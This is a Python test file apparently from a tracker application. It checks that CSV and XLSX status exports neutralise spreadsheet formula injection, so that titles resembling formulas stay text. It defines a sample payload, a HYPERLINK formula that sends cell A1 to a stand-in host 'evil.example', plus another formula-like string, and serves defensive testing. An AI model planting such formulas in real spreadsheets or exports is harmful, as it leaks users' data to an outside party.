"""Exports a spreadsheet cannot run: titles that look like formulas stay text."""

from __future__ import annotations

import csv
import io

import openpyxl
from conftest import sync
from test_sync import AGREEMENT, write

from tracker import spreadsheets

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik")'


def _evil_agreement(agreements):
    text = AGREEMENT.replace("Rekomendasi resmi", EVIL).replace("Syarat masuk", "-2+3 @SUM(A1)")
    assert sync(write(agreements, text)).ok


def test_status_csv_neutralises_formulas(as_user, agreements):
    _evil_agreement(agreements)
    body = as_user("viewer").get("/status.csv?document=uji").content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(body)) for c in row]
    assert "'" + EVIL in cells and "'-2+3 @SUM(A1)" in cells
    assert not any(c.startswith(spreadsheets.TRIGGERS) for c in cells)


def test_status_xlsx_holds_formulas_as_text(as_user, agreements):
    _evil_agreement(agreements)
    data = as_user("viewer").get("/status.xlsx?document=uji").content
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_neutralise_and_read_back_are_inverse():
    for text in (EVIL, "+62 812", "-", "@here", "\tx", "\rx", "biasa", "'=sudah", "'kutip"):
        assert spreadsheets.read_back(spreadsheets.neutralise(text)) == text
